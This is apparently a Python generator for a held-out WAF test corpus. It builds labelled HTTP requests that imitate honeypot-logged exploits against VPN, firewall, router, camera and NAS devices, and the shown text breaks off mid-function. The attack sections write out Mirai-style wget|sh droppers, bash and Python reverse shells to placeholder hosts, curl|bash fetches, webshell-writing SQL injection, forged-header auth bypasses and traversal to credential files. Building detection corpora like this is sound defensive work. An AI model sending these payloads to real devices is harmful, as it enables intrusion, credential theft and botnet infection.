#!/usr/bin/env python3
"""Held-out corpus "edge": attacks on network-edge appliances, IoT and embedded web UIs, and
those devices' ordinary management traffic.

What it is
    A deterministic generator (stdlib only, no randomness beyond a fixed rotation) of labelled
    HTTP requests in the JSON-lines shape described in /work/shared/corpora/README.md.

    "attacks" mode (expect "detect") imitates what internet honeypots logged from 2019 to 2026
    against edge devices: VPN and firewall appliances (Ivanti Connect Secure / Pulse, Fortinet
    FortiOS / FortiWeb / FortiNAC, Palo Alto GlobalProtect and PAN-OS, Citrix NetScaler ADC /
    Gateway and ShareFile, Cisco IOS XE web UI / ASA / RV, SonicWall, Check Point, Sophos,
    Zyxel, F5 BIG-IP iControl REST, Juniper J-Web), routers and CPE (TP-Link, D-Link, Netgear,
    Linksys, ASUS, Huawei HG, ZTE, Tenda, TOTOLINK, DrayTek, Ruckus, Four-Faith, Arcadyan,
    GPON / boaform, Realtek SDK UPnP, TR-064), cameras and DVR/NVR (Hikvision, Dahua, Uniview,
    TVT, AVTECH, JAWS/MVPower `/shell?`, LILIN, NUUO, Vacron, Geutebrueck), NAS (QNAP,
    Synology, Western Digital, Zyxel, TerraMaster, Seagate), and the management or hosting
    software found on such boxes (Ivanti EPMM / CSA / EPM / vTM, Zimbra, Roundcube, cPanel,
    Webmin, CentOS Web Panel, ISPConfig, Apache OFBiz, ThinkPHP, Laravel Ignition, Spring
    Cloud Gateway / Function, Confluence, Jira, TeamCity, GitLab ExifTool, Struts, Solr,
    Druid, Elasticsearch, Docker and Kubernetes APIs, YARN, APISIX, UniFi, Horizon, Exchange),
    Mirai / Mozi style `wget|sh` droppers in diagnostics fields, web shell probes,
    configuration and backup grabs, traversal to credentials, auth bypass with crafted
    headers and cookies.  Endpoints and parameter names follow the public exploits; payloads
    are varied (droppers, reverse shells, `id` probes, out-of-band callbacks).

    "benign" mode (expect "pass") is those devices' legitimate traffic: VPN client logins and
    config fetches, REST automation (FortiOS, PAN-OS XML API, NITRO, iControl REST, RESTCONF,
    SonicOS, Check Point, MikroTik), router admin forms with Wi-Fi names and passwords full of
    punctuation, diagnostics with real targets, DDNS updates, firmware update checks, TR-069
    Inform and TR-064 / UPnP SOAP, camera ISAPI / CGI / ONVIF / VAPIX requests, NAS file
    manager listings and uploads, monitoring probes, mobile apps (category "benign"); plus a
    network engineer's configs, CLI output, shell and firewall snippets and incident notes
    pasted into ticketing, wiki and chat tools (category "dev-content", ids containing
    "/dev-content/").

Written blind
    This file was written without reading Palisade's rulesets (rules, sources, tests or test
    data) or the other corpus generators' payloads, and without running the WAF, so that it
    measures the WAF on traffic it was not tuned for.  Addresses are from the documentation
    ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24) or private ranges, host names are
    example names; nothing is sent anywhere.

Run
    python3 scripts/corpus-edge.py attacks > rulesets/tests/data/edge-attacks.jsonl
    python3 scripts/corpus-edge.py benign  > rulesets/tests/data/edge-benign.jsonl
    python3 scripts/corpus-edge.py validate rulesets/tests/data/edge-*.jsonl
"""

import base64
import collections
import json
import re
import sys
from urllib.parse import quote, quote_plus

SET = "edge"


def pick(seq, k):
    return seq[k % len(seq)]


def b64(s):
    if isinstance(s, str):
        s = s.encode("utf-8")
    return base64.b64encode(s).decode()


def form(pairs):
    """application/x-www-form-urlencoded body from (name, value) pairs, as browsers encode it."""
    return "&".join(quote_plus(k, safe="[]") + "=" + quote_plus(v, safe="*") for k, v in pairs)


def jdump(obj):
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))



def xml_esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


# ----------------------------------------------------------------------------- user agents

# What honeypots see on exploit traffic: bot defaults, libraries, spoofed browsers.
BOT_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.88.1",
    "Hello, world",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36",
    "Mozilla/5.0",
    "Mozila/5.0",
    "python-requests/2.28.2",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
    "Wget(linux)",
    "libwww-perl/6.72",
    "Mozilla/5.0 (compatible; Odin; https://docs.getodin.com/)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
]

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.97",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
]


# ----------------------------------------------------------------------------- requests

def request(method, uri, host, headers=(), body=None, ctype=None, ua=None, accept="*/*", k=0, bot=True):
    """One request in the corpus shape.  Headers in the order a client would send them."""
    extra = [list(h) for h in headers]
    names = {h[0].lower() for h in extra}
    hs = [["Host", host]]
    if "user-agent" not in names:
        hs.append(["User-Agent", ua if ua is not None else pick(BOT_UAS if bot else BROWSER_UAS, k)])
    if "accept" not in names and accept is not None:
        hs.append(["Accept", accept])
    hs += extra
    if body is not None:
        if ctype is not None and "content-type" not in names:
            hs.append(["Content-Type", ctype])
        if "content-length" not in names:
            hs.append(["Content-Length", str(len(body.encode("utf-8")))])
    r = {"method": method, "uri": uri, "version": "HTTP/1.1", "headers": hs}
    if body is not None:
        r["body"] = body
    return r


def raw(head_lines, body=b""):
    """A complete raw request: head_lines are str (request line first), body bytes or str."""
    if isinstance(body, str):
        body = body.encode("utf-8")
    names = {l.split(":", 1)[0].lower() for l in head_lines[1:]}
    if body and "content-length" not in names and "transfer-encoding" not in names:
        head_lines = head_lines + ["Content-Length: %d" % len(body)]
    data = ("\r\n".join(head_lines) + "\r\n\r\n").encode("latin-1") + body
    return {"raw_b64": base64.b64encode(data).decode()}


def multipart(parts, boundary):
    """parts: (disposition params, content, [extra header lines]) -> body text."""
    out = []
    for disp, content, extra in parts:
        out.append("--" + boundary + "\r\n")
        out.append("Content-Disposition: form-data; " + disp + "\r\n")
        for h in extra:
            out.append(h + "\r\n")
        out.append("\r\n")
        out.append(content + "\r\n")
    out.append("--" + boundary + "--\r\n")
    return "".join(out)


BOUNDARIES = [
    "----WebKitFormBoundaryq8VDQmzC3yZ1nJ4L",
    "------------------------8f2c1b7d9e6a4f03",
    "----geckoformboundary9d1e4c2b7a3f",
    "0c4ef5d6a1b2",
]


def soap(body_xml, ns_extra=""):
    return ('<?xml version="1.0" encoding="utf-8"?>\n'
            '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
            's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"%s>\n'
            '<s:Body>%s</s:Body>\n</s:Envelope>\n' % (ns_extra, body_xml))


# ----------------------------------------------------------------------------- attack payload kit

CNC = ["192.0.2.14", "198.51.100.77", "203.0.113.5", "192.0.2.201", "198.51.100.3",
       "203.0.113.99", "192.0.2.66", "198.51.100.150"]
CNC_NAMES = ["dl.example-cdn.net", "update.example.org", "cdn.example.net", "files.example.com"]
ARCHES = ["mips", "mpsl", "arm7", "arm", "x86", "arm5", "sh4", "ppc", "m68k", "arm6"]


def dropper(k, tag="x"):
    """Loader one-liners as Mirai, Mozi, Gafgyt and their descendants send them."""
    h = pick(CNC, k)
    a = pick(ARCHES, k)
    n = pick(CNC_NAMES, k)
    styles = [
        "cd /tmp; wget http://%s/bins/%s; chmod 777 %s; ./%s %s" % (h, a, a, a, tag),
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://%s/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp %s -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh" % (h, h),
        "busybox wget -g %s -l /tmp/binary -r /%s; chmod +x /tmp/binary; /tmp/binary %s" % (h, a, tag),
        "wget http://%s:%d/Mozi.m -O /tmp/netgear; sh /tmp/netgear" % (h, 8000 + k % 900),
        "curl -s http://%s/%s.sh | sh" % (n, tag),
        "rm -rf /tmp/*; wget http://%s/%s -O /tmp/.x; chmod 777 /tmp/.x; /tmp/.x %s.exploit" % (h, a, tag),
        "cd /tmp; rm -rf %s; wget http://%s/%s; chmod +x %s; ./%s %s.selfrep" % (a, h, a, a, a, tag),
        "tftp -g -r %s -l /tmp/m %s; chmod +x /tmp/m; /tmp/m" % (a, h),
        "wget -qO- http://%s/i | sh" % n,
        "nc %s %d -e /bin/sh" % (h, 4444 + k % 20),
        "cd /var/tmp; busybox ftpget -u anonymous -p anonymous %s %s %s; chmod 777 %s; ./%s" % (h, a, a, a, a),
        "wget http://%s/x86_64 -O- > /tmp/k; chmod +x /tmp/k; /tmp/k" % h,
        "/bin/busybox wget http://%s:%d/%s.sh -O /var/tmp/r.sh; sh /var/tmp/r.sh" % (h, 80 + k % 3 * 4000, tag),
        "curl -o /tmp/sora http://%s/sora.%s; chmod 777 /tmp/sora; /tmp/sora %s" % (h, a, tag),
    ]
    return pick(styles, k)


def ifs(s):
    return s.replace(" ", "${IFS}")


# ============================================================================= attacks

class Out:
    def __init__(self):
        self.rows = []
        self.k = 0

    def add(self, cat, tag, req):
        self.rows.append((cat, tag, req))
        self.k += 1


def attacks_vpn(o):
    k = o.k
    # --- Fortinet FortiOS SSL-VPN: CVE-2018-13379 session-file read
    for i, (pre, tgt) in enumerate([
            ("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "vpn.example.com"),
            ("/remote/fgt_lang?lang=/../../../../////////////////////////bin/sslvpnd", "203.0.113.40:10443"),
            ("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession&", "198.51.100.9:4443"),
            ("/remote/fgt_lang?lang=%2F..%2F..%2F..%2F..%2F%2F%2F%2F%2F%2Fdev%2Fcmdb%2Fsslvpn_websession", "fw.example.net")]):
        o.add("lfi", "fortios-fgt-lang", request("GET", pre, tgt, k=k + i))
    # CVE-2022-40684: admin API with a loopback Forwarded header and the Report Runner agent
    o.add("protocol-attack", "fortios-40684", request(
        "PUT", "/api/v2/cmdb/system/admin/admin", "203.0.113.40",
        headers=[["Forwarded", 'for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";']],
        ua="Report Runner",
        body=jdump({"ssh-public-key1": '"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7vbqajDhA3n0v4lq8Y5 root@kali"'}),
        ctype="application/json"))
    o.add("protocol-attack", "fortios-40684", request(
        "GET", "/api/v2/cmdb/system/admin", "fw.example.net",
        headers=[["Forwarded", 'for="[127.0.0.1]:8888";by="[127.0.0.1]:8888"']], ua="Node.js"))
    o.add("protocol-attack", "fortios-40684", request(
        "POST", "/api/v2/cmdb/system/admin", "fw.example.net",
        headers=[["Forwarded", 'for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";']], ua="Report Runner",
        body=jdump({"name": "fortigate-tech-support", "accprofile": "super_admin", "vdom": [{"name": "root"}],
                    "password": "Sup3rS3cr3t!"}), ctype="application/json"))
    # FortiOS reflected XSS in the login redirect (CVE-2017-14186 family)
    o.add("xss", "fortios-loginredir", request(
        "GET", "/remote/loginredir?redir=javascript:alert(document.domain)", "vpn.example.com", k=k))
    o.add("xss", "fortios-message", request(
        "GET", "/message?title=x&msg=%26%23%3Csvg/onload=alert(1337)%3E%3B", "vpn.example.com", k=k + 1))
    # CVE-2023-27997 heap overflow probe: oversized enc on hostcheck_validate
    o.add("protocol-attack", "fortios-27997", request(
        "POST", "/remote/hostcheck_validate", "vpn.example.com",
        body="enc=" + "00000000" + "41" * 3800, ctype="application/x-www-form-urlencoded", k=k))
    # CVE-2024-55591: the CLI websocket opened with a forged local access token
    o.add("protocol-attack", "fortios-55591", request(
        "GET", "/ws/cli/open?cookieless=1&local_access_token=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "198.51.100.9:8443",
        headers=[["Connection", "Upgrade"], ["Upgrade", "websocket"], ["Sec-WebSocket-Version", "13"],
                 ["Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="], ["Forwarded", 'for="[127.0.0.1]:1337";by="[127.0.0.1]:1337"']],
        k=k))
    # FortiWeb CVE-2025-25257: SQL injection in the fabric connector's bearer token
    o.add("sqli", "fortiweb-25257", request(
        "GET", "/api/fabric/device/status", "waf.example.com",
        headers=[["Authorization", "Bearer AAAAAA'or'1'='1"]], k=k))
    o.add("sqli", "fortiweb-25257", request(
        "GET", "/api/fabric/device/status", "waf.example.com",
        headers=[["Authorization", "Bearer ';SELECT/**/0x3c3f70687020706173737468727528245f4745545b2763275d293b203f3e/**/INTO/**/OUTFILE/**/'../../lib/python3.10/site-packages/x.pth'#"]],
        k=k + 1))
    # FortiWeb CVE-2025-64446: traversal to fwbcgi with a forged CGIINFO identity
    cgiinfo = b64(jdump({"username": "admin", "profname": "prof_admin", "vdom": "root", "loginname": "admin"}))
    o.add("lfi", "fortiweb-64446", request(
        "POST", "/api/v2.0/cmdb/system/admin%3F/../../../../../cgi-bin/fwbcgi", "waf.example.com",
        headers=[["CGIINFO", cgiinfo]],
        body=jdump({"data": {"q_type": 1, "name": "svc_backup", "access-profile": "prof_admin",
                             "access-profile_val": "0", "trusthostv4": "0.0.0.0/0 ", "trusthostv6": "::/0 ",
                             "type": "local-user", "type_val": "0", "password": "Xk9#mq2!ra"}}),
        ctype="application/json", k=k))
    o.add("lfi", "fortiweb-64446", request(
        "GET", "/api/v2.0/cmdb/system/admin%3f/../../../../../cgi-bin/fwbcgi", "198.51.100.61",
        headers=[["CGIINFO", cgiinfo]], k=k + 2))
    # FortiNAC CVE-2022-39952: keyUpload.jsp writes an archive whose entry climbs to cron.d
    bd = pick(BOUNDARIES, k)
    o.add("lfi", "fortinac-39952", request(
        "POST", "/configWizard/keyUpload.jsp", "nac.example.com",
        body=multipart([('name="key"; filename="../../../../../etc/cron.d/payload"',
                         "* * * * * root bash -i >& /dev/tcp/%s/443 0>&1" % pick(CNC, k),
                         ["Content-Type: application/zip"])], bd),
        ctype="multipart/form-data; boundary=" + bd, k=k))

    # --- Ivanti Connect Secure / Pulse Secure
    o.add("lfi", "pulse-11510", request(
        "GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/",
        "vpn.example.org", k=k))
    o.add("lfi", "pulse-11510", request(
        "GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../data/runtime/mtmp/lmdb/dataa/data.mdb?/dana/html5acc/guacamole/",
        "203.0.113.77", k=k + 1))
    o.add("lfi", "pulse-11510", request(
        "GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../data/runtime/mtmp/system?/dana/html5acc/guacamole/",
        "vpn.example.org", k=k + 2))
    o.add("lfi", "ivanti-46805", request(
        "GET", "/api/v1/totp/user-backup-code/../../system/system-information", "vpn.example.org", k=k))
    o.add("lfi", "ivanti-46805", request(
        "GET", "/api/v1/totp/user-backup-code/../../system/active-users", "vpn.example.org", k=k + 3))
    rev = ("python -c 'import socket,subprocess;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
           "s.connect((\"%s\",4444));subprocess.call([\"/bin/sh\",\"-i\"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())'" % pick(CNC, k))
    o.add("rce", "ivanti-21887", request(
        "GET", "/api/v1/totp/user-backup-code/../../license/keys-status/" + quote(";" + rev, safe=""),
        "vpn.example.org", k=k))
    o.add("rce", "ivanti-21887", request(
        "GET", "/api/v1/totp/user-backup-code/../../license/keys-status/%3Bcurl%20http%3A%2F%2F" + pick(CNC, k + 1)
        + "%2Fx.sh%7Cbash%3B", "203.0.113.77", k=k + 1))
    o.add("rce", "ivanti-21887", request(
        "POST", "/api/v1/totp/user-backup-code/../../system/maintenance/archiving/cloud-server-test-connection",
        "vpn.example.org",
        body=jdump({"type": ";wget -O /tmp/s http://%s/s;chmod +x /tmp/s;/tmp/s;" % pick(CNC, k + 2),
                    "txtGCPProject": "a", "txtGCPSecret": "a", "txtGCPPath": "a", "txtGCPBucket": "a"}),
        ctype="application/json", k=k + 2))
    # CVE-2024-21893: SSRF through the SAML component's RetrievalMethod
    ssrf_uri = "http://127.0.0.1:8090/api/v1/license/keys-status/%3Becho%20-n%20" + quote(b64("id > /tmp/o"), safe="") + "%20%7C%20base64%20-d%20%7C%20bash%3B"
    o.add("ssrf", "ivanti-21893", request(
        "POST", "/dana-ws/saml20.ws", "vpn.example.org",
        body=('<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope">'
              '<soap:Body><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo>'
              '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
              '<ds:SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#rsa-sha1"/></ds:SignedInfo>'
              '<ds:SignatureValue>qwerty</ds:SignatureValue><ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#">'
              '<ds:RetrievalMethod URI="%s"/><ds:X509Data/></ds:KeyInfo><ds:Object></ds:Object></ds:Signature>'
              '</soap:Body></soap:Envelope>' % ssrf_uri.replace("&", "&amp;")),
        ctype="text/xml", k=k))
    # CVE-2024-22024: XXE in the SAML request (base64 in a form field)
    xxe = ('<?xml version="1.0" ?><!DOCTYPE root [<!ENTITY %% xxe SYSTEM "http://%s/x.dtd"> %%xxe;]><r></r>' % pick(CNC, k + 3))
    o.add("xxe", "ivanti-22024", request(
        "POST", "/dana-na/auth/saml-sso.cgi", "vpn.example.org",
        body="SAMLRequest=" + quote_plus(b64(xxe)), ctype="application/x-www-form-urlencoded", k=k + 3))
    # CVE-2025-22457: digits-and-dots X-Forwarded-For overflow
    o.add("protocol-attack", "ivanti-22457", request(
        "GET", "/dana-na/auth/url_default/welcome.cgi", "vpn.example.org",
        headers=[["X-Forwarded-For", "1" * 2048]], k=k))
    # Ivanti EPMM / MobileIron
    o.add("generic", "epmm-35078", request(
        "GET", "/mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1", "mdm.example.com", k=k))
    o.add("generic", "epmm-35082", request(
        "GET", "/mifs/asfV3/api/v2/authorized/users?adminDeviceSpaceId=1", "mdm.example.com", k=k + 1))
    o.add("java", "epmm-4428", request(
        "GET", "/mifs/rs/api/v2/featureusage?format=%24%7b%32%2b%32%7d", "mdm.example.com", k=k))
    o.add("java", "epmm-4428", request(
        "GET", "/api/v2/featureusage_history?adminDeviceSpaceId=131&format="
        + quote("${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"curl http://%s/e\")}" % pick(CNC, k), safe=""),
        "mdm.example.com", k=k + 1))
    o.add("java", "mobileiron-15505", raw([
        "POST /mifs/.;/services/LogService HTTP/1.1", "Host: mdm.example.com", "User-Agent: Mozilla/5.0",
        "Content-Type: x-application/hessian"],
        b"c\x02\x00m\x00\x04info\x4d\x74\x00\x00S\x00\x0cldapUrl\x00S\x00\x23ldap://198.51.100.77:1389/Exploit\x7a" + b"\x7a" * 26))
    # Ivanti CSA: CVE-2024-8963 path trick to datetime.php, CVE-2024-8190 TIMEZONE injection
    o.add("rce", "ivanti-csa-8190", request(
        "POST", "/client/index.php%3F.php/gsb/datetime.php", "csa.example.com",
        headers=[["Authorization", "Basic " + b64("gsbadmin:gsbadmin")]],
        body=form([("dateTimeFormSubmitted", "1"), ("TIMEZONE", "; echo %s | base64 -d | sh ;" % b64(dropper(k, "csa"))),
                   ("LDCSA_CSRF", "8e4c1a3b0d7f6e5a")]),
        ctype="application/x-www-form-urlencoded", k=k))
    # Ivanti EPM CVE-2024-29824: SQL injection in the status event handler
    o.add("sqli", "ivanti-epm-29824", request(
        "POST", "/WSStatusEvents/EventHandler.asmx", "epm.example.com",
        headers=[["SOAPAction", '"http://tempuri.org/RecordGoodApp"']],
        body=('<?xml version="1.0" encoding="utf-8"?><soap12:Envelope xmlns:soap12="http://www.w3.org/2003/05/soap-envelope">'
              '<soap12:Body><UpdateStatusEvents xmlns="http://tempuri.org/"><deviceID>string</deviceID><actions><Action name="string" '
              'code="0" date="0" type="96" user="string" configguid="string" location="string"><status>GoodApp=1|md5='
              "'; EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE; "
              "EXEC xp_cmdshell 'powershell -nop -c \"iwr http://%s/a.ps1|iex\"'--</status></Action></actions>"
              '</UpdateStatusEvents></soap12:Body></soap12:Envelope>' % pick(CNC, k)),
        ctype="application/soap+xml; charset=utf-8", k=k))
    # Ivanti vTM CVE-2024-7593: wizard reached without a session to add an admin
    o.add("generic", "ivanti-vtm-7593", request(
        "POST", "/apps/zxtm/wizard.fcgi?error=1&section=Access+Management%3ALocalUsers", "vtm.example.com",
        body=form([("_form_submitted", "form"), ("create_user", "Create"), ("group", "admin"),
                   ("newusername", "svc_monitor"), ("password1", "Pwned#2024"), ("password2", "Pwned#2024")]),
        ctype="application/x-www-form-urlencoded", k=k))

    # --- Palo Alto GlobalProtect / PAN-OS
    o.add("lfi", "panos-3400", request(
        "POST", "/ssl-vpn/hipreport.esp", "gp.example.com",
        headers=[["Cookie", "SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/hellothere.txt;"]],
        body="", ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "panos-3400", request(
        "GET", "/global-protect/login.esp", "gp.example.com",
        headers=[["Cookie", "SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/y`curl${IFS}%s:4444/p${IFS}-d${IFS}@/etc/passwd`" % pick(CNC, k)]],
        k=k + 1))
    o.add("rce", "panos-3400", request(
        "POST", "/ssl-vpn/hipreport.esp", "198.51.100.22",
        headers=[["Cookie", "SESSID=./../../../../opt/panlogs/tmp/device_telemetry/hour/aaa`echo${IFS}%s|base64${IFS}-d|bash`" % b64("wget -qO- http://%s/u|sh" % pick(CNC, k + 2))]],
        body="user=global&portal=gp&authcookie=&domain=&computer=DESKTOP&client-ip=10.0.0.2&client-ipv6=&md5-sum=&gwHipReportCheck=",
        ctype="application/x-www-form-urlencoded", k=k + 2))
    o.add("protocol-attack", "panos-0012", request(
        "GET", "/php/ztp_gate.php/.js.map", "fw-mgmt.example.com", headers=[["X-PAN-AUTHCHECK", "off"]], k=k))
    o.add("rce", "panos-9474", request(
        "POST", "/php/utils/createRemoteAppwebSession.php/watchTowr.js.map", "fw-mgmt.example.com",
        headers=[["X-PAN-AUTHCHECK", "off"]],
        body=form([("user", "`echo $(uname -a) > /var/appweb/htdocs/unauth/x1.php`"), ("userRole", "superuser"),
                   ("remoteHost", ""), ("vsys", "vsys1")]),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "panos-9474", request(
        "POST", "/php/utils/createRemoteAppwebSession.php/rce.js.map", "203.0.113.130",
        headers=[["X-PAN-AUTHCHECK", "off"]],
        body=form([("user", "`curl -s %s/a|sh`" % pick(CNC, k + 1)), ("userRole", "superuser"), ("remoteHost", ""), ("vsys", "vsys1")]),
        ctype="application/x-www-form-urlencoded", k=k + 1))
    o.add("lfi", "panos-0108", request(
        "GET", "/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css", "fw-mgmt.example.com", k=k))
    o.add("protocol-attack", "gp-1579", request(
        "POST", "/sslmgr", "gp.example.com",
        body="scep-profile-name=%25p%25p%25p%25p%25p%25p%25p%25p%25p%25p", ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "panos-15944", request(
        "GET", "/esp/cms_changeDeviceContext.esp?device=aaaaa:a%27\";user|s.\"1337\";", "fw-mgmt.example.com",
        headers=[["Cookie", "PHPSESSID=3iuvg6f6rq2ik91hgsbhu6l3k5"]], k=k))

    # --- Citrix NetScaler ADC / Gateway, ShareFile
    o.add("lfi", "citrix-19781", request("GET", "/vpn/../vpns/cfg/smb.conf", "gw.example.com", k=k))
    o.add("rce", "citrix-19781", request(
        "POST", "/vpn/../vpns/portal/scripts/newbm.pl", "gw.example.com",
        headers=[["NSC_USER", "../../../netscaler/portal/templates/Qk3pL"], ["NSC_NONCE", "nsroot"]],
        body="url=http://example.com&title=" + quote("[% template.new({'BLOCK'='print readpipe(\"cat /nsconfig/ns.conf\")'}) %]", safe="")
        + "&desc=desc&UI_inuse=RfWeb", ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "citrix-19781", request(
        "POST", "/vpns/portal/scripts/newbm.pl", "203.0.113.88",
        headers=[["NSC_USER", "/../../../../../../../../../../netscaler/portal/templates/xyz"], ["NSC_NONCE", "c"]],
        body="url=127.0.0.1&title=" + quote("[%template.new({'BLOCK'='print `" + dropper(k + 4, "ctx") + "`'})%]", safe="")
        + "&desc=desc&UI_inuse=a", ctype="application/x-www-form-urlencoded", k=k + 1))
    o.add("lfi", "citrix-19781", request("GET", "/vpn/%2e%2e/vpns/portal/tips.html", "gw.example.com", k=k + 2))
    o.add("lfi", "citrix-8193", request(
        "GET", "/rapi/filedownload?filter=path:%2Fetc%2Fpasswd", "adc.example.com",
        headers=[["Cookie", "SESSID=2b49a1d3e3f6c70819a4f1c0e7b9d2ab"]], k=k))
    o.add("generic", "citrix-8193", request(
        "POST", "/pcidss/report?type=allprofiles&sid=loginchallengeresponse1requestbody&username=nsroot&set=1",
        "adc.example.com", headers=[["X-NITRO-USER", "xWAWhjIV"], ["X-NITRO-PASS", "VAbmNvSa"]],
        body="<appfwprofile><login></login></appfwprofile>", ctype="application/xml", k=k + 1))
    o.add("protocol-attack", "citrix-3519", request(
        "GET", "/gwtest/formssso?event=start&target=" + "A" * 1200, "gw.example.com", k=k))
    o.add("protocol-attack", "citrix-4966", request(
        "GET", "/oauth/idp/.well-known/openid-configuration", "a" * 24812, k=k))
    o.add("xss", "citrix-24488", request(
        "GET", "/oauth/idp/logout?post_logout_redirect_uri=%0d%0a%0d%0a%3cscript%3ealert(document.domain)%3c%2fscript%3e",
        "gw.example.com", k=k))
    o.add("lfi", "sharefile-24489", request(
        "POST", "/documentum/upload.aspx?parentid=a&raw=1&unzip=on&uploadid=" + quote("x\\..\\..\\..\\cifs", safe="")
        + "&filename=x.aspx", "files.example.com",
        body='<%@ Page Language="C#" %><% Response.Write(System.Diagnostics.Process.Start("cmd.exe","/c whoami").StandardOutput.ReadToEnd()); %>',
        ctype="application/octet-stream", k=k))
    o.add("xss", "citrix-3580", request(
        "POST", "/+CSCOE+/saml/sp/acs?tgname=a", "asa.example.com",
        body='SAMLResponse=%22%3E%3Csvg%2Fonload%3Dalert%28%2FXSS%2F%29%3E', ctype="application/x-www-form-urlencoded", k=k))

    # --- Cisco IOS XE web UI, ASA, RV
    wsma = ('<?xml version="1.0"?><SOAP:Envelope xmlns:SOAP="http://schemas.xmlsoap.org/soap/envelope/" '
            'xmlns:SOAP-ENC="http://schemas.xmlsoap.org/soap/encoding/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" '
            'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><SOAP:Header><h:Security xmlns:h="http://schemas.xmlsoap.org/ws/2002/04/secext" '
            'SOAP:mustUnderstand="false"><UsernameToken><Username/><Password>*****</Password></UsernameToken></h:Security></SOAP:Header>'
            '<SOAP:Body><request correlator="exec1" xmlns="urn:cisco:wsma-exec"><execCLI xsd="false"><cmd>%s</cmd>'
            '<dialogue><expect></expect><reply></reply></dialogue></execCLI></request></SOAP:Body></SOAP:Envelope>')
    o.add("protocol-attack", "iosxe-20198", request(
        "POST", "/%2577ebui_wsma_HTTP", "rtr.example.net", body=wsma % "show running-config | include username",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("protocol-attack", "iosxe-20198", request(
        "POST", "/%2577eb%2575i_%2577sma_Http", "203.0.113.3",
        body=wsma.replace("urn:cisco:wsma-exec", "urn:cisco:wsma-config").replace(
            "<execCLI xsd=\"false\"><cmd>%s</cmd><dialogue><expect></expect><reply></reply></dialogue></execCLI>",
            "<configApply details=\"all\" action-on-fail=\"continue\"><config-data><cli-config-data-block>"
            "username cisco_tac_admin privilege 15 secret 0 Pr1v$Esc</cli-config-data-block></config-data></configApply>"),
        ctype="application/x-www-form-urlencoded", k=k + 1))
    o.add("generic", "iosxe-implant", request(
        "POST", "/webui/logoutconfirm.html?logon_hash=1", "rtr.example.net", body="", ctype="application/x-www-form-urlencoded",
        headers=[["Authorization", "0ff4fbf0ecffa77ce8d3852a29263e263838e9bb"]], k=k))
    o.add("rce", "iosxe-20273", request(
        "POST", "/webui/rest/softwareMgmt/installAdd", "rtr.example.net",
